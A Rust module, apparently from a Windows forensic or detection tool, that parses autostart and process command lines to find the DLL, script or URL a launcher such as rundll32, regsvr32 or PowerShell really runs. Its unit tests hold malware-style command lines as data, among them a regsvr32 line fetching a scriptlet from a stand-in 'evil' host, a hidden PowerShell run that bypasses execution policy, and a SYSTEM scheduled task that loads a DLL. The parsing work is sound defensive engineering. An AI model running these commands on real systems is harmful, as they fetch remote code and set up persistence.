//! A Windows command-line parser for autostart commands, task actions,
//! service image paths and process command lines: which program Windows
//! starts, and - when that program is a launcher (rundll32, regsvr32, cmd,
//! a script host, mshta, PowerShell, msiexec, conhost, schtasks) - which
//! file the launcher is given. The launcher itself is never the payload.
//!
//! Rules followed:
//! - variables (`%APPDATA%`, ...) are expanded for the user the command
//!   belongs to;
//! - an unquoted program path with spaces is resolved the way CreateProcess
//!   does: successive space-separated prefixes, the first that exists wins
//!   (existence is asked of the snapshot; without an answer the first
//!   prefix ending in an executable extension wins);
//! - arguments are split with the CommandLineToArgvW rules (backslashes
//!   before quotes, `""` inside quotes);
//! - `rundll32 path,Export args`, `rundll32 "p q.dll",Export`, `dll, Export`;
//! - `regsvr32 /s /n /i:args path` (flags with `/` or `-`, `/i:` empty or not);
//! - bare system binaries and bare DLL names resolve into System32.

use super::paths;
use crate::runtime::snapshot::UserProfile;

/// Environment variables for expansion, per user.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Env {
    vars: Vec<(String, String)>,
}

impl Env {
    /// Machine-wide variables only (user variables stay unexpanded).
    pub fn machine() -> Env {
        let v = |a: &str, b: &str| (a.to_string(), b.to_string());
        Env {
            vars: vec![
                v("SYSTEMROOT", "C:\\Windows"),
                v("WINDIR", "C:\\Windows"),
                v("SYSTEMDRIVE", "C:"),
                v("PROGRAMDATA", "C:\\ProgramData"),
                v("ALLUSERSPROFILE", "C:\\ProgramData"),
                v("PROGRAMFILES", "C:\\Program Files"),
                v("PROGRAMFILES(X86)", "C:\\Program Files (x86)"),
                v("PROGRAMW6432", "C:\\Program Files"),
                v("COMMONPROGRAMFILES", "C:\\Program Files\\Common Files"),
                v(
                    "COMMONPROGRAMFILES(X86)",
                    "C:\\Program Files (x86)\\Common Files",
                ),
                v("PUBLIC", "C:\\Users\\Public"),
                v("COMSPEC", "C:\\Windows\\system32\\cmd.exe"),
            ],
        }
    }

    /// Machine variables plus the user's own folders.
    pub fn for_user(user: Option<&UserProfile>) -> Env {
        let mut e = Env::machine();
        if let Some(u) = user {
            let mut add = |k: &str, val: &str| {
                if !val.is_empty() {
                    e.vars.push((k.to_string(), val.to_string()));
                }
            };
            add("USERPROFILE", &u.profile_path);
            add("APPDATA", &u.appdata);
            add("LOCALAPPDATA", &u.local_appdata);
            add("TEMP", &u.temp);
            add("TMP", &u.temp);
            add("USERNAME", &u.name);
            add("HOMEDRIVE", "C:");
            if let Some(rest) = u.profile_path.get(2..) {
                add("HOMEPATH", rest);
            }
        }
        e
    }

    /// Expand `%NAME%` references (case-insensitive); unknown ones stay.
    pub fn expand(&self, s: &str) -> String {
        let mut out = String::with_capacity(s.len());
        let mut rest = s;
        while let Some(i) = rest.find('%') {
            out.push_str(&rest[..i]);
            let after = &rest[i + 1..];
            match after.find('%') {
                Some(j) => {
                    let name = &after[..j];
                    match self.vars.iter().find(|(k, _)| k.eq_ignore_ascii_case(name)) {
                        Some((_, v)) if !name.is_empty() => {
                            out.push_str(v);
                            rest = &after[j + 1..];
                        }
                        _ => {
                            out.push('%');
                            rest = after;
                        }
                    }
                }
                None => {
                    out.push('%');
                    rest = after;
                }
            }
        }
        out.push_str(rest);
        out
    }
}

/// What kind of program starts the payload.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Launcher {
    Rundll32,
    Regsvr32,
    Cmd,
    ScriptHost,
    Mshta,
    PowerShell,
    Msiexec,
    Conhost,
    Schtasks,
    /// svchost.exe hosting a service's `ServiceDll`.
    Svchost,
    /// The program is itself the payload (an EXE or a script by association).
    Direct,
}

impl Launcher {
    pub fn name(self) -> &'static str {
        match self {
            Launcher::Rundll32 => "rundll32.exe",
            Launcher::Regsvr32 => "regsvr32.exe",
            Launcher::Cmd => "cmd.exe",
            Launcher::ScriptHost => "wscript/cscript",
            Launcher::Mshta => "mshta.exe",
            Launcher::PowerShell => "powershell",
            Launcher::Msiexec => "msiexec.exe",
            Launcher::Conhost => "conhost.exe",
            Launcher::Schtasks => "schtasks.exe",
            Launcher::Svchost => "svchost.exe",
            Launcher::Direct => "direct",
        }
    }
    /// Launchers that load a DLL into themselves.
    pub fn loads_dll(self) -> bool {
        matches!(
            self,
            Launcher::Rundll32 | Launcher::Regsvr32 | Launcher::Svchost
        )
    }
}

/// A file (or URL) a command ends up running.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Payload {
    /// Expanded, normalised path (or a URL for mshta / scrobj).
    pub path: String,
    /// rundll32 entry point (`RunDLL`, `#1`, ...).
    pub export: Option<String>,
    /// Arguments after the payload.
    pub args: Vec<String>,
    /// What loads or runs it.
    pub via: Launcher,
    /// Found by bare-name search (e.g. `printui.dll` -> System32).
    pub searched: bool,
}

/// A parsed command.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct Parsed {
    pub raw: String,
    pub expanded: String,
    /// The program Windows starts, expanded and resolved.
    pub program: String,
    /// Its lower-case file name.
    pub program_name: String,
    /// Arguments, CommandLineToArgvW style.
    pub args: Vec<String>,
    pub launcher: Option<Launcher>,
    /// What the command ultimately runs (the DLL/script, never the launcher).
    pub payloads: Vec<Payload>,
    /// Inline code (encoded PowerShell, `vbscript:`, `javascript:`).
    pub inline_code: bool,
    /// Commands chained inside `cmd /c`, `conhost`, `schtasks /tr`.
    pub children: Vec<Parsed>,
}

/// Context for parsing: environment, working directory, and a way to ask
/// the snapshot whether a path exists.
pub struct ParseCtx<'a> {
    pub env: &'a Env,
    pub cwd: Option<&'a str>,
    pub exists: &'a dyn Fn(&str) -> bool,
}

const EXEC_EXTS: &[&str] = &[
    "exe", "com", "bat", "cmd", "pif", "scr", "vbs", "vbe", "js", "jse", "wsf", "ps1", "hta",
    "lnk", "msi", "cpl",
];

/// System binaries that resolve from a bare name, with their folder.
const SYSTEM_BINARIES: &[&str] = &[
    "rundll32",
    "regsvr32",
    "cmd",
    "wscript",
    "cscript",
    "mshta",
    "powershell",
    "msiexec",
    "conhost",
    "schtasks",
    "ping",
    "reg",
    "sc",
    "net",
    "net1",
    "wmic",
    "certutil",
    "bitsadmin",
    "timeout",
    "taskkill",
    "forfiles",
    "odbcconf",
    "control",
    "wermgr",
    "mobsync",
    "msra",
    "svchost",
    "dllhost",
    "werfault",
    "notepad",
    "calc",
    "whoami",
    "nltest",
    "userinit",
    "taskhostw",
    "sihost",
    "ctfmon",
];

const CMD_BUILTINS: &[&str] = &[
    "echo", "type", "del", "erase", "set", "copy", "move", "ren", "rename", "if", "for", "goto",
    "exit", "cd", "chdir", "md", "mkdir", "rd", "rmdir", "cls", "pause", "rem", "setlocal",
    "endlocal", "pushd", "popd", "title", "ver", "vol", "dir", "attrib",
];

/// Split arguments with the CommandLineToArgvW rules.
pub fn split_args(s: &str) -> Vec<String> {
    let mut args = Vec::new();
    let chars: Vec<char> = s.chars().collect();
    let mut i = 0;
    let n = chars.len();
    loop {
        while i < n && (chars[i] == ' ' || chars[i] == '\t') {
            i += 1;
        }
        if i >= n {
            break;
        }
        let mut cur = String::new();
        let mut in_q = false;
        while i < n {
            let c = chars[i];
            if !in_q && (c == ' ' || c == '\t') {
                break;
            }
            if c == '\\' {
                let mut k = i;
                while k < n && chars[k] == '\\' {
                    k += 1;
                }
                let count = k - i;
                if k < n && chars[k] == '"' {
                    for _ in 0..count / 2 {
                        cur.push('\\');
                    }
                    if count % 2 == 1 {
                        cur.push('"');
                        i = k + 1;
                    } else {
                        i = k;
                    }
                } else {
                    for _ in 0..count {
                        cur.push('\\');
                    }
                    i = k;
                }
                continue;
            }
            if c == '"' {
                if in_q && i + 1 < n && chars[i + 1] == '"' {
                    cur.push('"');
                    i += 2;
                    continue;
                }
                in_q = !in_q;
                i += 1;
                continue;
            }
            cur.push(c);
            i += 1;
        }
        args.push(cur);
    }
    args
}

/// Split the program from the rest of a command line. Returns the program
/// as written (unquoted) and the remaining text.
fn split_program<'s>(s: &'s str, ctx: &ParseCtx) -> (String, &'s str) {
    let s = s.trim_start();
    if let Some(inner) = s.strip_prefix('"') {
        return match inner.find('"') {
            Some(j) => (inner[..j].to_string(), &inner[j + 1..]),
            None => (inner.to_string(), ""),
        };
    }
    // Candidate ends: each whitespace boundary, then the end.
    let mut ends: Vec<usize> = s
        .char_indices()
        .filter(|(_, c)| *c == ' ' || *c == '\t')
        .map(|(i, _)| i)
        .collect();
    ends.push(s.len());
    ends.dedup();
    let first = ends[0];
    // Without spaces in a plausible path, take the first token.
    let mut by_ext: Option<usize> = None;
    for &e in &ends {
        let cand = s[..e].trim_end();
        if cand.is_empty() {
            continue;
        }
        let exists = (ctx.exists)(cand)
            || (paths::extension(cand).is_empty() && (ctx.exists)(&format!("{cand}.exe")));
        if exists {
            return (cand.to_string(), &s[e..]);
        }
        let first_tok = &s[..first];
        let path_like = (first_tok.contains('\\') || first_tok.contains(':'))
            && !cand.contains(['&', '|', '<', '>', '"', ','])
            && !cand
                .split_whitespace()
                .skip(1)
                .any(|t| t.starts_with('/') || t.starts_with('-'));
        if by_ext.is_none() && path_like && EXEC_EXTS.contains(&paths::extension(cand).as_str()) {
            by_ext = Some(e);
        }
    }
    let e = by_ext.unwrap_or(first);
    (s[..e].trim_end().to_string(), &s[e..])
}

/// Resolve a bare program name the way the search path would for the
/// system binaries we know; other bare names stay as they are (or are
/// joined to the working directory when one is given).
fn resolve_program(p: &str, ctx: &ParseCtx) -> String {
    let p = paths::normalize(p);
    if p.contains('\\') || p.contains(':') {
        if !p.contains(':')
            && !p.starts_with('\\')
            && let Some(cwd) = ctx.cwd.filter(|c| !c.is_empty())
        {
            return paths::normalize(&format!("{}\\{}", ctx.env.expand(cwd), p));
        }
        return p;
    }
    let lower = p.to_ascii_lowercase();
    let base = lower.strip_suffix(".exe").unwrap_or(&lower);
    if SYSTEM_BINARIES.contains(&base) {
        return format!("C:\\Windows\\System32\\{base}.exe");
    }
    if base == "explorer" {
        return "C:\\Windows\\explorer.exe".to_string();
    }
    if let Some(cwd) = ctx.cwd.filter(|c| !c.is_empty()) {
        return paths::normalize(&format!("{}\\{}", ctx.env.expand(cwd), p));
    }
    p
}

/// Resolve a DLL argument given to rundll32/regsvr32: bare names are found
/// in System32 (the loader's search order for these).
fn resolve_dll(p: &str, ctx: &ParseCtx) -> (String, bool) {
    let n = paths::normalize(p);
    if n.is_empty() {
        return (n, false);
    }
    if !n.contains('\\') && !n.contains(':') {
        if let Some(cwd) = ctx.cwd.filter(|c| !c.is_empty()) {
            let joined = paths::normalize(&format!("{}\\{}", ctx.env.expand(cwd), n));
            if (ctx.exists)(&joined) {
                return (joined, false);
            }
        }
        return (format!("C:\\Windows\\System32\\{n}"), true);
    }
    if !n.contains(':')
        && !n.starts_with('\\')
        && let Some(cwd) = ctx.cwd.filter(|c| !c.is_empty())
    {
        return (
            paths::normalize(&format!("{}\\{}", ctx.env.expand(cwd), n)),
            false,
        );
    }
    (n, false)
}

fn launcher_of(name: &str) -> Launcher {
    let base = name.strip_suffix(".exe").unwrap_or(name);
    match base {
        "rundll32" => Launcher::Rundll32,
        "regsvr32" => Launcher::Regsvr32,
        "cmd" => Launcher::Cmd,
        "wscript" | "cscript" => Launcher::ScriptHost,
        "mshta" => Launcher::Mshta,
        "powershell" | "pwsh" | "powershell_ise" => Launcher::PowerShell,
        "msiexec" => Launcher::Msiexec,
        "conhost" => Launcher::Conhost,
        "schtasks" => Launcher::Schtasks,
        _ => Launcher::Direct,
    }
}

/// Is this program a Windows binary in its home folder (never a payload)?
pub fn is_system_binary(path: &str) -> bool {
    let name = paths::file_name(path).to_ascii_lowercase();
    let base = name.strip_suffix(".exe").unwrap_or(&name);
    (SYSTEM_BINARIES.contains(&base) || base == "explorer") && paths::is_directly_in_system(path)
}

/// Parse a command line.
pub fn parse(cmd: &str, ctx: &ParseCtx) -> Parsed {
    parse_depth(cmd, ctx, 0)
}

fn parse_depth(cmd: &str, ctx: &ParseCtx, depth: usize) -> Parsed {
    let expanded = ctx.env.expand(cmd.trim());
    let (prog_raw, rest) = split_program(&expanded, ctx);
    let program = resolve_program(&prog_raw, ctx);
    let mut program_name = paths::file_name(&program).to_ascii_lowercase();
    if !program_name.contains('.') && SYSTEM_BINARIES.contains(&program_name.as_str()) {
        program_name.push_str(".exe");
    }
    let args = split_args(rest);
    let mut p = Parsed {
        raw: cmd.to_string(),
        expanded: expanded.clone(),
        program: program.clone(),
        program_name: program_name.clone(),
        args: args.clone(),
        launcher: None,
        payloads: Vec::new(),
        inline_code: false,
        children: Vec::new(),
    };
    if program.is_empty() {
        return p;
    }
    let builtin = CMD_BUILTINS.contains(&program_name.as_str());
    let l = launcher_of(&program_name);
    p.launcher = Some(l);
    match l {
        Launcher::Rundll32 => parse_rundll32(&mut p, ctx),
        Launcher::Regsvr32 => parse_regsvr32(&mut p, ctx),
        Launcher::Cmd => parse_cmd(&mut p, rest, ctx, depth),
        Launcher::ScriptHost => {
            let mut it = p.args.iter().filter(|a| !a.starts_with("//"));
            if let Some(s) = it.next() {
                let rest: Vec<String> = it.cloned().collect();
                let (path, _) = resolve_dll(s, ctx);
                p.payloads.push(Payload {
                    path,
                    export: None,
                    args: rest,
                    via: l,
                    searched: false,
                });
            }
        }
        Launcher::Mshta => {
            if let Some(a) = p.args.first() {
                let la = a.to_ascii_lowercase();
                if la.starts_with("vbscript:")
                    || la.starts_with("javascript:")
                    || la.starts_with("about:")
                {
                    p.inline_code = true;
                } else if la.starts_with("http://") || la.starts_with("https://") {
                    p.payloads.push(Payload {
                        path: a.clone(),
                        export: None,
                        args: vec![],
                        via: l,
                        searched: false,
                    });
                } else {
                    let (path, _) = resolve_dll(a, ctx);
                    p.payloads.push(Payload {
                        path,
                        export: None,
                        args: p.args[1..].to_vec(),
                        via: l,
                        searched: false,
                    });
                }
            }
        }
        Launcher::PowerShell => parse_powershell(&mut p, ctx),
        Launcher::Msiexec => {
            let mut i = 0;
            while i < p.args.len() {
                let a = p.args[i].to_ascii_lowercase();
                for flag in ["/i", "/package", "/y", "/z", "-i", "-y", "-z", "-package"] {
                    if a == flag {
                        if let Some(t) = p.args.get(i + 1) {
                            let (path, _) = resolve_dll(t, ctx);
                            p.payloads.push(Payload {
                                path,
                                export: None,
                                args: vec![],
                                via: l,
                                searched: false,
                            });
                        }
                    } else if a.len() > flag.len()
                        && a.starts_with(flag)
                        && !a[flag.len()..].starts_with(|c: char| c.is_ascii_alphabetic())
                    {
                        let (path, _) = resolve_dll(&p.args[i][flag.len()..], ctx);
                        p.payloads.push(Payload {
                            path,
                            export: None,
                            args: vec![],
                            via: l,
                            searched: false,
                        });
                    }
                }
                i += 1;
            }
        }
        Launcher::Conhost => {
            // conhost.exe [--headless] [--width n] ... <command>
            let mut r = rest.trim_start();
            loop {
                let tok_end = r.find([' ', '\t']).unwrap_or(r.len());
                let tok = &r[..tok_end];
                if tok.starts_with("--")
                    || tok.eq_ignore_ascii_case("0xffffffff")
                    || tok.chars().all(|c| c.is_ascii_digit()) && !tok.is_empty()
                {
                    r = r[tok_end..].trim_start();
                } else {
                    break;
                }
            }
            if !r.is_empty() && depth < 4 {
                let child = parse_depth(r, ctx, depth + 1);
                p.payloads.extend(child.payloads.iter().cloned());
                p.inline_code |= child.inline_code;
                p.children.push(child);
            }
        }
        Launcher::Schtasks => {
            let mut i = 0;
            while i < p.args.len() {
                if (p.args[i].eq_ignore_ascii_case("/tr") || p.args[i].eq_ignore_ascii_case("-tr"))
                    && let Some(tr) = p.args.get(i + 1)
                    && depth < 4
                {
                    let child = parse_depth(tr, ctx, depth + 1);
                    p.payloads.extend(child.payloads.iter().cloned());
                    p.children.push(child);
                }
                i += 1;
            }
        }
        // The DLL svchost.exe hosts is in the service's registry key, not
        // its command line (`facts` adds it); never returned by `launcher_of`.
        Launcher::Svchost => {}
        Launcher::Direct => {
            if !builtin
                && !is_system_binary(&program)
                && !SYSTEM_BINARIES.contains(&program_name.trim_end_matches(".exe"))
            {
                p.payloads.push(Payload {
                    path: program,
                    export: None,
                    args,
                    via: l,
                    searched: false,
                });
            } else if !builtin {
                p.launcher = Some(Launcher::Direct);
            }
        }
    }
    p
}

fn parse_rundll32(p: &mut Parsed, ctx: &ParseCtx) {
    let Some(first) = p.args.first().cloned() else {
        return;
    };
    if first.starts_with('-') || first.starts_with('/') {
        return; // -sta {CLSID}, -localserver: no file
    }
    let lf = first.to_ascii_lowercase();
    if lf.starts_with("javascript:") || lf.starts_with("vbscript:") {
        p.inline_code = true;
        return;
    }
    let name_start = first.rfind('\\').map(|i| i + 1).unwrap_or(0);
    let (dll, mut export) = match first[name_start..].find(',') {
        Some(j) => (
            first[..name_start + j].to_string(),
            first[name_start + j + 1..].trim().to_string(),
        ),
        None => (first.clone(), String::new()),
    };
    let mut next = 1;
    if export.is_empty()
        && let Some(a) = p.args.get(1)
    {
        export = a.trim_start_matches(',').to_string();
        next = 2;
    }
    let (path, searched) = resolve_dll(&dll, ctx);
    let args = p.args.get(next..).map(|s| s.to_vec()).unwrap_or_default();
    p.payloads.push(Payload {
        path,
        export: if export.is_empty() {
            None
        } else {
            Some(export)
        },
        args,
        via: Launcher::Rundll32,
        searched,
    });
}

fn parse_regsvr32(p: &mut Parsed, ctx: &ParseCtx) {
    let mut install_arg: Option<String> = None;
    let mut targets = Vec::new();
    for a in &p.args {
        if a.starts_with('/') || a.starts_with('-') {
            let la = a.to_ascii_lowercase();
            if la.starts_with("/i:") || la.starts_with("-i:") {
                let v = a[3..].trim_matches('"').to_string();
                if !v.is_empty() {
                    install_arg = Some(v);
                }
            }
            continue;
        }
        targets.push(a.clone());
    }
    for t in targets {
        let (path, searched) = resolve_dll(&t, ctx);
        let is_scrobj = paths::file_name(&path).eq_ignore_ascii_case("scrobj.dll");
        if is_scrobj && let Some(i) = &install_arg {
            let li = i.to_ascii_lowercase();
            let pth = if li.starts_with("http://") || li.starts_with("https://") {
                i.clone()
            } else {
                resolve_dll(i, ctx).0
            };
            p.payloads.push(Payload {
                path: pth,
                export: None,
                args: vec![],
                via: Launcher::Regsvr32,
                searched: false,
            });
            continue;
        }
        p.payloads.push(Payload {
            path,
            export: None,
            args: install_arg.iter().cloned().collect(),
            via: Launcher::Regsvr32,
            searched,
        });
    }
}

fn parse_powershell(p: &mut Parsed, ctx: &ParseCtx) {
    let takes_value = [
        "-windowstyle",
        "-w",
        "-executionpolicy",
        "-ep",
        "-ex",
        "-exec",
        "-version",
        "-v",
        "-inputformat",
        "-outputformat",
        "-configurationname",
        "-workingdirectory",
        "-wd",
    ];
    let mut i = 0;
    while i < p.args.len() {
        let a = p.args[i].to_ascii_lowercase();
        if a == "-file" || a == "-f" || a == "/file" {
            if let Some(f) = p.args.get(i + 1) {
                let (path, _) = resolve_dll(f, ctx);
                p.payloads.push(Payload {
                    path,
                    export: None,
                    args: p.args[i + 2..].to_vec(),
                    via: Launcher::PowerShell,
                    searched: false,
                });
            }
            return;
        }
        if [
            "-encodedcommand",
            "-enc",
            "-en",
            "-e",
            "-ec",
            "-command",
            "-c",
            "-com",
            "-comm",
        ]
        .contains(&a.as_str())
            || a == "-"
        {
            p.inline_code = true;
            return;
        }
        if takes_value.contains(&a.as_str()) {
            i += 2;
            continue;
        }
        if a.starts_with('-') {
            i += 1;
            continue;
        }
        // First positional argument: a script file or inline code.
        if a.ends_with(".ps1") {
            let (path, _) = resolve_dll(&p.args[i], ctx);
            p.payloads.push(Payload {
                path,
                export: None,
                args: p.args[i + 1..].to_vec(),
                via: Launcher::PowerShell,
                searched: false,
            });
        } else {
            p.inline_code = true;
        }
        return;
    }
}

/// `cmd [/q /d ...] /c|/k <command>`: chained commands are parsed each.
fn parse_cmd(p: &mut Parsed, rest: &str, ctx: &ParseCtx, depth: usize) {
    let mut r = rest.trim_start();
    let mut body: Option<&str> = None;
    while r.starts_with('/') {
        let tok_end = r.find([' ', '\t', '"']).unwrap_or(r.len());
        let tok = &r[..tok_end];
        let lt = tok.to_ascii_lowercase();
        if lt.starts_with("/c") || lt.starts_with("/k") || lt.starts_with("/r") {
            body = Some(r[2..].trim_start());
            break;
        }
        r = r[tok_end..].trim_start();
    }
    let Some(mut body) = body else { return };
    let quotes = body.matches('"').count();
    let stripped;
    if body.starts_with('"') && body.ends_with('"') && quotes > 2 {
        stripped = body[1..body.len() - 1].to_string();
        body = &stripped;
    }
    if depth >= 4 {
        return;
    }
    for seg in split_cmd_chain(body) {
        let mut s = seg.trim();
        // Cut redirections.
        if let Some(i) = find_unquoted(s, &['>', '<']) {
            s = s[..i].trim();
        }
        if s.is_empty() {
            continue;
        }
        let ls = s.to_ascii_lowercase();
        if ls.starts_with("call ") {
            s = s[5..].trim_start();
        } else if ls == "start" || ls.starts_with("start ") {
            s = strip_start(&s[5..]);
        }
        if s.is_empty() {
            continue;
        }
        let child = parse_depth(s, ctx, depth + 1);
        p.payloads.extend(child.payloads.iter().cloned());
        p.inline_code |= child.inline_code;
        p.children.push(child);
    }
}

/// `start ["title"] [/b /min /d dir ...] command` -> `command`.
fn strip_start(s: &str) -> &str {
    let mut r = s.trim_start();
    if r.starts_with('"')
        && let Some(j) = r[1..].find('"')
    {
        r = r[j + 2..].trim_start();
    }
    while r.starts_with('/') {
        let tok_end = r.find([' ', '\t']).unwrap_or(r.len());
        let tok = r[..tok_end].to_ascii_lowercase();
        r = r[tok_end..].trim_start();
        if tok == "/d" {
            let e = r.find([' ', '\t']).unwrap_or(r.len());
            r = r[e..].trim_start();
        }
    }
    r
}

fn find_unquoted(s: &str, chars: &[char]) -> Option<usize> {
    let mut in_q = false;
    for (i, c) in s.char_indices() {
        if c == '"' {
            in_q = !in_q;
        } else if !in_q && chars.contains(&c) {
            return Some(i);
        }
    }
    None
}

/// Split a cmd body on unquoted `&`, `&&`, `|`, `||`.
pub fn split_cmd_chain(s: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut cur = String::new();
    let mut in_q = false;
    let mut prev_caret = false;
    for c in s.chars() {
        if c == '"' {
            in_q = !in_q;
            cur.push(c);
        } else if !in_q && !prev_caret && (c == '&' || c == '|') {
            if !cur.trim().is_empty() {
                out.push(std::mem::take(&mut cur));
            } else {
                cur.clear();
            }
        } else {
            cur.push(c);
        }
        prev_caret = c == '^' && !in_q;
    }
    if !cur.trim().is_empty() {
        out.push(cur);
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn no(_: &str) -> bool {
        false
    }

    fn bob() -> UserProfile {
        UserProfile {
            name: "bob".into(),
            sid: "S-1-5-21-1-2-3-1001".into(),
            profile_path: "C:\\Users\\bob".into(),
            appdata: "C:\\Users\\bob\\AppData\\Roaming".into(),
            local_appdata: "C:\\Users\\bob\\AppData\\Local".into(),
            temp: "C:\\Users\\bob\\AppData\\Local\\Temp".into(),
            logged_on: true,
        }
    }

    fn p(cmd: &str) -> Parsed {
        let u = bob();
        let env = Env::for_user(Some(&u));
        parse(
            cmd,
            &ParseCtx {
                env: &env,
                cwd: None,
                exists: &no,
            },
        )
    }

    #[test]
    fn argv_rules() {
        assert_eq!(split_args(r#"a "b c" d"#), vec!["a", "b c", "d"]);
        assert_eq!(split_args(r#""a\"b" c\\"#), vec!["a\"b", "c\\\\"]);
        assert_eq!(split_args(r#"a\\\\"b c" d"#), vec!["a\\\\b c", "d"]);
        assert_eq!(split_args(r#""he said ""hi""""#), vec!["he said \"hi\""]);
        assert_eq!(
            split_args(r#""C:\x y\a.dll",Export arg"#),
            vec!["C:\\x y\\a.dll,Export", "arg"]
        );
        assert_eq!(split_args("  "), Vec::<String>::new());
    }

    #[test]
    fn rundll32_forms() {
        let x = p(
            r#"C:\Windows\system32\rundll32.exe "C:\Users\bob\AppData\Local\Ckninfw\ialkq.czi",Control_RunDLL"#,
        );
        assert_eq!(x.launcher, Some(Launcher::Rundll32));
        assert_eq!(x.payloads.len(), 1);
        assert_eq!(
            x.payloads[0].path,
            "C:\\Users\\bob\\AppData\\Local\\Ckninfw\\ialkq.czi"
        );
        assert_eq!(x.payloads[0].export.as_deref(), Some("Control_RunDLL"));

        let x = p(r"rundll32 %LOCALAPPDATA%\Aibevs\jbcss.nfg,DUabvWmG");
        assert_eq!(x.program, "C:\\Windows\\System32\\rundll32.exe");
        assert_eq!(
            x.payloads[0].path,
            "C:\\Users\\bob\\AppData\\Local\\Aibevs\\jbcss.nfg"
        );
        assert_eq!(x.payloads[0].export.as_deref(), Some("DUabvWmG"));

        let x = p("RUNDLL32.EXE user32.dll, UpdatePerUserSystemParameters");
        assert_eq!(x.payloads[0].path, "C:\\Windows\\System32\\user32.dll");
        assert!(x.payloads[0].searched);
        assert_eq!(
            x.payloads[0].export.as_deref(),
            Some("UpdatePerUserSystemParameters")
        );

        let x = p(
            r#"rundll32.exe "C:\Users\bob\AppData\Local\Azad\qahaumsp.dll",update /i:"BrightBike\license.dat""#,
        );
        assert_eq!(x.payloads[0].export.as_deref(), Some("update"));
        assert_eq!(x.payloads[0].args, vec!["/i:BrightBike\\license.dat"]);

        let x = p(
            r#"rundll32.exe "C:\Users\bob\AppData\Local\{3B3CEF60-AFC9-5F9B-3CED-DE6BE81FCDCE}\dauzjo4\miatomdo2.dll",#1 --uyocas="C:\Users\bob\x\jhghjdfghdfgh""#,
        );
        assert_eq!(x.payloads[0].export.as_deref(), Some("#1"));
        assert_eq!(
            x.payloads[0].args,
            vec!["--uyocas=C:\\Users\\bob\\x\\jhghjdfghdfgh"]
        );

        let x = p("rundll32.exe -sta {C53E07EC-25F3-4093-AA39-FC67EA22E99D}");
        assert!(x.payloads.is_empty());
    }

    #[test]
    fn regsvr32_forms() {
        let x = p(
            r#"regsvr32.exe -s "C:\Users\bob\AppData\Roaming\Microsoft\Bbbetedog\naqhixfsvwhmw.dll""#,
        );
        assert_eq!(
            x.payloads[0].path,
            "C:\\Users\\bob\\AppData\\Roaming\\Microsoft\\Bbbetedog\\naqhixfsvwhmw.dll"
        );
        let x = p(r"regsvr32 /s /i: C:\ProgramData\12842.jpg");
        assert_eq!(x.payloads[0].path, "C:\\ProgramData\\12842.jpg");
        let x = p(r"regsvr32 /s /n /u /i:http://evil/x.sct scrobj.dll");
        assert_eq!(x.payloads[0].path, "http://evil/x.sct");
        let x = p(r"C:\Windows\SysWOW64\regsvr32.exe /s C:\Users\Public\abc.dll");
        assert_eq!(x.launcher, Some(Launcher::Regsvr32));
        assert_eq!(x.payloads[0].path, "C:\\Users\\Public\\abc.dll");
    }

    #[test]
    fn unquoted_paths_with_spaces() {
        let x = p(r"C:\Program Files\Zoom\bin\installer.exe /repair");
        assert_eq!(x.program, "C:\\Program Files\\Zoom\\bin\\installer.exe");
        assert_eq!(x.args, vec!["/repair"]);
        // With the snapshot knowing the file, the shortest existing prefix wins.
        let u = bob();
        let env = Env::for_user(Some(&u));
        let ex = |s: &str| s.eq_ignore_ascii_case("C:\\Program Files\\My App\\run");
        let x = parse(
            r"C:\Program Files\My App\run now.exe",
            &ParseCtx {
                env: &env,
                cwd: None,
                exists: &ex,
            },
        );
        assert_eq!(x.program, "C:\\Program Files\\My App\\run");
        let x = p(r#""C:\Users\bob\AppData\Local\Microsoft\OneDrive\OneDrive.exe"  /background"#);
        assert_eq!(
            x.program,
            "C:\\Users\\bob\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe"
        );
        assert_eq!(x.args, vec!["/background"]);
        assert_eq!(x.payloads[0].via, Launcher::Direct);
    }

    #[test]
    fn cmd_chains_and_scripts() {
        let x = p(r#"cmd.exe /c "C:\Users\bob\AppData\Roaming\Comboboot7559513311\launcher.bat""#);
        assert_eq!(x.payloads.len(), 1);
        assert_eq!(
            x.payloads[0].path,
            "C:\\Users\\bob\\AppData\\Roaming\\Comboboot7559513311\\launcher.bat"
        );
        let x = p(
            r"cmd /q /c ping.exe -n 6 127.0.0.1 & type C:\Windows\System32\calc.exe > C:\Users\bob\Desktop\x.exe",
        );
        assert!(x.payloads.is_empty(), "{:?}", x.payloads);
        assert_eq!(x.children.len(), 2);
        let x = p(r#"cmd /c start "" /min wscript.exe //B //E:vbscript "%TEMP%\abc.vbs" arg"#);
        assert_eq!(
            x.payloads[0].path,
            "C:\\Users\\bob\\AppData\\Local\\Temp\\abc.vbs"
        );
        assert_eq!(x.payloads[0].via, Launcher::ScriptHost);
        let x =
            p(r"powershell.exe -NoP -W Hidden -ExecutionPolicy Bypass -File C:\ProgramData\x.ps1");
        assert_eq!(x.payloads[0].path, "C:\\ProgramData\\x.ps1");
        let x = p("powershell -enc SQBFAFgA");
        assert!(x.inline_code && x.payloads.is_empty());
        let x = p(r"mshta vbscript:Execute(1)");
        assert!(x.inline_code);
        let x = p(
            r#"schtasks.exe /Create /RU "NT AUTHORITY\SYSTEM" /tn ayttpnzc /tr "regsvr32.exe -s \"C:\Users\bob\Desktop\761\a.dll\"" /SC ONCE /Z"#,
        );
        assert_eq!(x.payloads[0].path, "C:\\Users\\bob\\Desktop\\761\\a.dll");
        let x = p(r"conhost.exe --headless rundll32 C:\ProgramData\512.png,Wind");
        assert_eq!(x.payloads[0].path, "C:\\ProgramData\\512.png");
    }

    #[test]
    fn env_and_cwd() {
        let e = Env::for_user(Some(&bob()));
        assert_eq!(
            e.expand("%appdata%\\x %UNKNOWN% 100%"),
            "C:\\Users\\bob\\AppData\\Roaming\\x %UNKNOWN% 100%"
        );
        let u = bob();
        let env = Env::for_user(Some(&u));
        let x = parse(
            "launcher.bat",
            &ParseCtx {
                env: &env,
                cwd: Some("%APPDATA%\\Comboboot7559513311"),
                exists: &no,
            },
        );
        assert_eq!(
            x.payloads[0].path,
            "C:\\Users\\bob\\AppData\\Roaming\\Comboboot7559513311\\launcher.bat"
        );
        // A bare system binary is never the payload.
        assert!(p("ctfmon.exe").payloads.is_empty());
    }
}
